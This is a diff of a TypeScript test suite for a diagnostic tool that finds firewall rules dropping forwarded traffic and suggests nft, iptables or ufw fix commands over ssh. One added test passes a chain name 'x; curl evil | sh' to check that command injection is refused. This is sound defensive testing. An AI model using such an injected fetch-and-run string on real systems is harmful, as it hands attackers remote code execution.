@@ -315,7 +315,7 @@ describe('doctor judges', () => {
       firewall: { ...wellSystem.firewall, ...changes },
     });
 
-    it('that a rule drops, with the rule and its removal', () => {
+    it('that a rule drops, with that rule and one that lets this port through before it', () => {
       expect(onlyFinding(cut(firewall({ drops: [drop] })))).toMatchObject({
         node: n2,
         check: 'connections',
@@ -323,15 +323,21 @@ describe('doctor judges', () => {
         text: expect.stringMatching(
           /port 8000 of "web".*10\.0\.0\.1, this machine: probably "counter drop".*inet foreign fwd/,
         ),
-        command: `ssh ${n2} nft delete rule inet foreign fwd handle 4`,
+        command: `ssh ${n2} nft insert rule inet foreign fwd ct status dnat ct reply ip saddr ${n1} ct original proto-dst 8000 meta l4proto tcp accept`,
       });
-      expect(onlyFinding(cut(firewall({ drops: [drop] }), 'refused')).command).toContain('handle 4');
+      expect(onlyFinding(cut(firewall({ drops: [drop] }), 'refused')).command).toContain('fwd ct status dnat');
+      const user: FirewallDrop = { ...drop, table: 'ip filter', chain: 'DOCKER-USER' };
+      expect(onlyFinding(cut(firewall({ drops: [user] }))).command).toBe(
+        `ssh ${n2} iptables -I DOCKER-USER -p tcp -m conntrack --ctstate DNAT --ctreplsrc ${n1} --ctorigdstport 8000 -j ACCEPT`,
+      );
+      const hostile: FirewallDrop = { ...drop, chain: 'x; curl evil | sh' };
+      expect(onlyFinding(cut(firewall({ drops: [hostile] }))).command).toBe(`ssh ${n2} nft list ruleset`);
     });
 
     it('prefer the rule that names the port', () => {
       const other = { ...drop, handle: 5, rule: 'tcp dport 22 drop' };
-      const named = { ...drop, handle: 6, rule: 'tcp dport { 80, 8000 } drop' };
-      expect(onlyFinding(cut(firewall({ drops: [other, drop, named] }))).command).toContain('handle 6');
+      const named = { ...drop, handle: 6, chain: 'named', rule: 'tcp dport { 80, 8000 } drop' };
+      expect(onlyFinding(cut(firewall({ drops: [other, drop, named] }))).command).toContain('foreign named');
       expect(onlyFinding(cut(firewall({ drops: [other] }))).command).toBe(`ssh ${n2} nft list ruleset`);
     });
 
@@ -340,11 +346,17 @@ describe('doctor judges', () => {
       expect(onlyFinding(cut(firewall({ services: ['ufw'], drops: [policy] }))).command).toBe(
         `ssh ${n2} ufw route allow proto tcp to ${n1} port 8000`,
       );
-      expect(onlyFinding(cut(firewall({ drops: [policy] }))).command).toContain('policy accept');
+      expect(onlyFinding(cut(firewall({ drops: [policy] }))).command).toContain('iptables -I DOCKER-USER -p tcp');
       const { accepted: _none, ...bare } = wellSystem.firewall;
       const firewalld = { ...drop, table: 'inet firewalld', rule: 'reject with icmpx admin-prohibited' };
       const it = cut({ firewall: { ...bare, services: ['firewalld'], drops: [firewalld] } });
-      expect(onlyFinding(it).command).toContain('firewall-cmd --add-forward');
+      expect(onlyFinding(it).command).toContain('nft insert rule inet firewalld fwd ct status dnat');
+    });
+
+    it('that a node forwards for everybody is a fault, which is closed', () => {
+      const [found] = wrong(examined({ system: { ...wellSystem, ...firewall({ open: ['IPv4', 'IPv6'] }) } }));
+      expect(found).toMatchObject({ check: 'forwarding', result: 'fault' });
+      expect(found?.command).toContain("'iptables -P FORWARD DROP && ip6tables -P FORWARD DROP'");
     });
 
     it('that Docker drops for want of its rule, and that the kernel does not forward', () => {
